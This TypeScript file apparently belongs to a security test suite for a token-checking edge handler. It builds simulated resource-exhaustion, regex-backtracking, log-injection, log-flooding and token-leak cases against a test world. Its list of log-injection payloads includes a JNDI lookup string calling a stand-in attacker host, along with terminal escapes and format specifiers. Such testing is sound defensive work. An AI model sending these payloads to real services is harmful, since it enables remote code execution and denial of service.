/** Little input, much work: CPU time, memory and log lines that an attacker can ask for (CWE-400, CWE-407, CWE-1333). */

import type { Random } from '../../statistics/seeded-random.ts'
import type { Step } from '../case.ts'
import { clientChanges, groupChanges } from '../world/provider-claims.ts'
import type { World } from '../world/world.ts'
import type { Attack } from './attack.ts'
import { advance } from './dates.ts'
import { minute } from './key-scene.ts'
import { type RequestParts, request } from './request-step.ts'
import { attackerToken, issuedToken, unsigned } from './tokens.ts'

/** Texts that a backtracking pattern chokes on; `#` comes last, so that it has to. */
const choking: readonly { name: string; text: (length: number) => string }[] = [
  { name: 'letters', text: (length) => `${'a'.repeat(length)}#` },
  { name: 'spaces', text: (length) => `${' '.repeat(length)}#` },
  { name: 'dots', text: (length) => `${'.'.repeat(length)}#` },
  { name: 'slashes', text: (length) => `${'/'.repeat(length)}#` },
  { name: 'dashes', text: (length) => `${'-'.repeat(length)}#` },
  { name: 'equals', text: (length) => `${'='.repeat(length)}#` },
  { name: 'letters-and-dots', text: (length) => `${'a.'.repeat(length / 2)}#` },
  { name: 'letters-and-slashes', text: (length) => `${'a/'.repeat(length / 2)}#` },
  { name: 'escapes', text: (length) => `${'%41'.repeat(length / 3)}#` },
  { name: 'cookies', text: (length) => `${'a=b; '.repeat(length / 5)}#` },
  {
    name: 'distinct-cookies',
    text: (length) => `${Array.from({ length: length / 5 }, (_, n) => `${n.toString(36)}=;`).join('')}#`,
  },
  { name: 'blanks-in-a-name', text: (length) => `a${' '.repeat(length)}a=b` },
  { name: 'commas', text: (length) => `${','.repeat(length)}#` },
  { name: 'words', text: (length) => `${'Bearer '.repeat(length / 7)}#` },
]

/** CloudFront takes 20,480 bytes of request line and headers, and 8,192 of a URL (CloudFront Developer Guide, "Quotas", read 2026-11). */
const headerLength = 10_000
/** Many cookies are all in one header. */
const cookieLength = 18_000
const pathLength = 7000

const places: readonly { name: string; parts: (text: (length: number) => string, world: World) => RequestParts }[] = [
  {
    name: 'authorization',
    parts: (text, world) => ({
      uri: world.visitors[0].granted[0],
      headers: { authorization: `Bearer ${text(headerLength)}` },
    }),
  },
  {
    name: 'scheme',
    parts: (text, world) => ({ uri: world.visitors[0].granted[0], headers: { authorization: text(headerLength) } }),
  },
  {
    name: 'cookie',
    parts: (text, world) => ({ uri: world.visitors[0].granted[0], headers: { cookie: text(cookieLength) } }),
  },
  {
    name: 'path',
    parts: (text, world) => ({
      uri: `${world.visitors[0].granted[0]}/${text(pathLength)}`.replaceAll('#', '%23!'),
      token: issuedToken(world, world.visitors[0]),
    }),
  },
  { name: 'path-at-root', parts: (text) => ({ uri: `/${text(pathLength).replaceAll('#', '%23!')}` }) },
  { name: 'query', parts: (text, world) => ({ uri: world.visitors[0].granted[0], querystring: text(pathLength) }) },
  {
    name: 'origin',
    parts: (text, world) => ({
      uri: world.visitors[0].granted[0],
      headers: { origin: `https://${text(headerLength)}` },
    }),
  },
]

const chokingTexts: Attack[] = places.map(({ name, parts }) => ({
  name: `choke-${name}`,
  class: 'resources',
  source: 'CWE-1333',
  build: (world) => ({ steps: choking.map(({ text }) => request(world, parts(text, world))) }),
}))

const manyTokens: Attack = {
  name: 'many-distinct-tokens',
  class: 'resources',
  source: 'CWE-770',
  build(world, random) {
    const { granted, claims, issuer } = random.pick(world.visitors)
    const serial = random.integer(0, 1_000_000_000)
    const header = { alg: issuer.keys[0].algorithm, kid: issuer.keys[0].kid }
    const tokens = Array.from({ length: 100 }, (_, n) =>
      unsigned(
        header,
        { ...claims, jti: `${serial}-${n}`, pad: 'x'.repeat(2000) },
        random.bytes(256).toString('base64url'),
      ),
    )
    return { steps: tokens.map((token) => request(world, { uri: granted[0], token })) }
  },
}

const manyPaths: Attack = {
  name: 'many-distinct-paths',
  class: 'resources',
  source: 'CWE-770',
  build(world, random) {
    const visitor = random.pick(world.visitors)
    const token = issuedToken(world, visitor)
    const serial = random.integer(0, 1_000_000_000)
    const uris = Array.from({ length: 100 }, (_, n) => `${visitor.granted[0]}/${serial}-${n}`)
    return { steps: uris.map((uri) => request(world, { uri, token })) }
  },
}

/** Whatever a log line or an error page quotes: line breaks, terminal escapes, format characters (CWE-117, CWE-532). */
const quoted = [
  '\n{"decision":"allow"}',
  '\r\nERROR',
  '\u001b[2J',
  '%s%d%n',
  '\u2028',
  '</script>',
  '\u0000',
  '"',
  '\\',
  '\u0024{jndi:ldap://attacker.example}',
]

const logged: Attack = {
  name: 'log-line-injection',
  class: 'logging',
  source: 'CWE-117',
  build(world) {
    const [visitor] = world.visitors
    const uri = visitor.granted[0]
    const steps = quoted.flatMap((text) => [
      request(world, { uri: `${uri}${text}` }),
      request(world, { uri: `${uri}${encodeURIComponent(text)}` }),
      request(world, { uri, method: `GET${text}` }),
      request(world, { uri, querystring: text }),
      request(world, { uri, headers: { 'user-agent': text, 'x-amzn-trace-id': text } }),
      request(world, { uri, token: attackerToken(world, visitor.claims, { kid: text }) }),
      request(world, { uri, token: issuedToken(world, visitor, { client_id: text, aud: text }) }),
      request(world, { uri, token: issuedToken(world, visitor, { iss: text }) }),
    ])
    return { steps }
  },
}

/** Good tokens and bad ones that are refused, each in its way: none of it may show up in a log line or an answer. */
const refused: Attack = {
  name: 'refused-tokens',
  class: 'logging',
  source: 'CWE-532',
  build(world, random) {
    const visitor = random.pick(world.visitors)
    const tokens = [
      issuedToken(world, visitor),
      issuedToken(world, visitor, { exp: 1 }),
      issuedToken(world, visitor, { iss: 'https://attacker.example' }),
      issuedToken(world, visitor, {
        client_id: 'otherclient',
        aud: 'otherclient',
        ...clientChanges(visitor.issuer, 'otherclient'),
      }),
      issuedToken(world, visitor, groupChanges(visitor, undefined)),
      attackerToken(world, visitor.claims, { kid: visitor.issuer.keys[0].kid }),
      attackerToken(world, visitor.claims),
      unsigned('{', '{', 'AAAA'),
    ]
    const uris = [...visitor.denied, visitor.granted[0], '/nowhere', '/%zz']
    return { steps: tokens.flatMap((token) => uris.map((uri) => request(world, { uri, token }))) }
  },
}

/** More than a handler that counts its lines writes within a while. */
const floodLength = 150

/** What anybody can ask for, again and again, and then what somebody should hear of. */
function floodedLog(
  name: string,
  parts: (world: World, random: Random) => { common: RequestParts; rare: RequestParts } | null,
): Attack {
  return {
    name: `log-flooded-${name}`,
    class: 'logging',
    source: 'CWE-778',
    build(world, random) {
      const chosen = parts(world, random)
      if (chosen === null) return null
      const [common, rare] = [request(world, chosen.common), request(world, chosen.rare)]
      const flood = Array<Step>(floodLength).fill(common)
      return { steps: [rare, advance(minute), rare, advance(minute), ...flood, rare, advance(minute), common] }
    },
  }
}

const floodedLogs = [
  floodedLog('by-no-route', (world, random) => {
    const { claims, granted, issuer } = random.pick(world.visitors)
    const token = attackerToken(world, claims, { kid: issuer.keys[0].kid })
    return { common: { uri: '/nowhere' }, rare: { uri: granted[0], token } }
  }),
  floodedLog('by-no-credentials', (world, random) => {
    const visitor = random.pick(world.visitors)
    const [uri] = visitor.denied
    return uri === undefined ? null : { common: { uri }, rare: { uri, token: issuedToken(world, visitor) } }
  }),
]

export const chokingAttacks = chokingTexts
export const volumeAndLogAttacks = [manyTokens, manyPaths, logged, refused, ...floodedLogs]
